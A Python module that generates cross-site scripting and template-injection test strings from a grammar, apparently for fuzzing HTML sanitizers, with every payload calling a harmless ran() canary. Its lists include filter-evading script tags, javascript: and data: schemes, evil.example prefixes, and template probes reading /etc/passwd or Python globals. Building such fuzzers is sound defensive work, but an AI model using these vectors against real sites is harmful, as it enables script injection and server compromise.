"""Texts that want to run: made by a grammar of tag, event, quoting, encoding and way out. None is copied from a list.

A vector that runs calls `ran()`, which the page that shows it defines.
"""

from collections.abc import Iterator
from random import Random

CALL = "ran()"

_TAGS = (
    "img", "svg", "video", "audio", "iframe", "object", "embed", "input", "button", "select", "textarea", "details",
    "body", "marquee", "math", "a", "form", "div", "p", "b", "style", "link", "script", "source", "track", "keygen",
    "dialog", "meter", "summary", "x-y", "frameset", "isindex", "image", "bgsound",
)  # fmt: skip
_EVENTS = (
    "onerror", "onload", "onfocus", "onfocusin", "ontoggle", "onmouseover", "onpointerenter", "onclick", "onwheel",
    "onanimationstart", "onbegin", "oncanplay", "onloadstart", "onpageshow", "onresize", "onscroll", "onstart",
    "oncopy", "ondrag", "oninput", "oninvalid", "onbeforematch", "ontransitionend", "onauxclick",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
_HELPERS = {
    "img": " src=x", "video": " src=x", "audio": " src=x", "input": " autofocus", "select": " autofocus",
    "textarea": " autofocus", "button": " autofocus", "details": " open", "object": " data=x", "embed": " src=x",
    "a": " href=# autofocus tabindex=1", "div": " autofocus tabindex=1", "iframe": " srcdoc=x", "script": " src=x",
    "link": " rel=stylesheet href=x", "image": " src=x", "b": " autofocus tabindex=1", "p": " autofocus tabindex=1",
}  # fmt: skip
_QUOTES = ("{}", '"{}"', "'{}'", "`{}`", " {} ", '" {}"', '"{}', "'{}")
_GAPS = (" ", "/", "\t", "\n", "\f", " / ", "\r\n", "\u00a0", "//")
_WAYS_OUT = (
    "", '">', "'>", '" ', "' ", "-->", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "]]>",
    "</code></pre>", "</a>", "</h2>", "</p>", "</td>", "</figure>", "`", "```\n", "\\", "*/", "?>", '"/>', ")", "](",
    "\n\n", "{% endraw %}", "\ufeff", "\u202e",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript\u003a",
    "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:",
    "view-source:javascript:", "feed:javascript:", "jar:", "//evil.example/", "\\\\evil.example\\",
    "/\\evil.example/", "javascript//https://a.example/%0a", "intent:", "ms-msdt:", "mhtml:", "livescript:", "mocha:",
    "javascript%3A", "jav&#x09;ascript:", "javascript\u200b:",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<script >{}</script >", "<SCRIPT>{}</SCRIPT>", "<script/x>{}</script>",
    "<scr<script>ipt>{}</script>", "<svg><script>{}</script></svg>", "<script type=module>{}</script>",
    "<math><mtext><script>{}</script>", "<script\n>{}</script\n>", "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>", "<!--<script>{}</script>-->", "<![CDATA[<script>{}</script>]]>",
    "<?xml <script>{}</script>?>", "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E", "<script>{}//", "＜script＞{}＜/script＞",
)  # fmt: skip
_FRAMES = (
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=javascript:{}//>",
    "<form action=javascript:{}><button autofocus>x</form>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}>", "<svg><use href='data:image/svg+xml,<svg id=x onload={} />#x'>",
    "<math href=javascript:{}>x</math>", "<object data='data:text/html,<script>{}</script>'></object>",
    "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>x</div>",
    "<div style=position:fixed;inset:0>{}</div>", "<a id=ran href=javascript:{}>x</a>",
    "<img name=getElementById src=x onerror={}>", "<link rel=import href=javascript:{}>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {} }}}}", "{{% include '/etc/passwd' %}}{}", "{{{{ ''.__class__.__mro__ }}}}{}", "${{{}}}", "<%= {} %>",
    "#{{{}}}", "{{{{ config }}}}{}", "{{{{ cycler.__init__.__globals__ }}}}{}",
    "{{% for x in range(9) %}}{}{{% endfor %}}",
)  # fmt: skip


def vectors(seed: int = 0) -> Iterator[str]:
    """An endless row of vectors, the same for the same seed; each kind in turn."""
    chance = Random(seed)
    while True:
        yield chance.choice(_WAYS_OUT) + _element(chance)
        yield chance.choice(_WAYS_OUT) + chance.choice(_SCRIPTS).format(CALL)
        yield chance.choice(_SCHEMES) + CALL
        yield chance.choice(_WAYS_OUT) + chance.choice(_FRAMES).format(CALL)
        yield f"{chance.choice(_EVENTS)}={chance.choice(_QUOTES).format(CALL)}"
        yield '" ' + f"{chance.choice(_EVENTS)}={CALL} autofocus tabindex=1 x=" + '"'
        yield chance.choice(_TEMPLATES).format(CALL)
        yield _mixed(chance, chance.choice(_WAYS_OUT) + _element(chance))


def _element(chance: Random) -> str:
    tag, gap = chance.choice(_TAGS), chance.choice(_GAPS)
    event, quoted = chance.choice(_EVENTS), chance.choice(_QUOTES).format(CALL)
    end = chance.choice((">", "/>", " >", "", f"></{tag}>"))
    return f"<{tag}{_HELPERS.get(tag, '')}{gap}{event}={quoted}{end}"


def _mixed(chance: Random, text: str) -> str:
    """The same, written another way."""
    way = chance.randrange(5)
    if way == 0:
        return "".join(f"&#{ord(letter)};" if letter.isalpha() and chance.random() < 0.3 else letter for letter in text)
    if way == 1:
        return "".join(letter.swapcase() if chance.random() < 0.5 else letter for letter in text).replace("RAN", "ran")
    if way == 2:
        return text.replace("<", chance.choice(("&lt;", "&#60;", "\\<", "<<", "<\u200b", "%3C")))
    if way == 3:
        return f"{text}{chance.choice(_WAYS_OUT)}{text}"
    return text.replace(" ", chance.choice(_GAPS))
